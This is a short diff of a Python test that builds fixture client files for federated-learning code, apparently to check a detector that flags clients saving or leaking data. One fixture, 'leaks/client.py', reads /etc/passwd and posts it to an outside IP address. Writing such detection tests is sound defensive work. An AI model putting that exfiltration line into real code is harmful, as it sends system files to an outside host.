@@ -76,7 +76,7 @@ def test_the_script_reports_decisions_rejects_and_the_apis_behind_escalations(tm
     _write(corpus, {
         "plain/client.py": CLIENT,
         "plain/model.py": NET,
-        "saves/client.py": CLIENT + "import torch, sys\ntorch.save(net.state_dict(), sys.argv[1])\n",
+        "saves/client.py": CLIENT + "import torch\ntorch.save(net.state_dict(), '~/model.pt')\n",
         "saves/model.py": NET,
         "leaks/client.py": "import nvflare.client as flare, requests\nrequests.post('https://203.0.113.9/x', data=open('/etc/passwd').read())\n",
     })
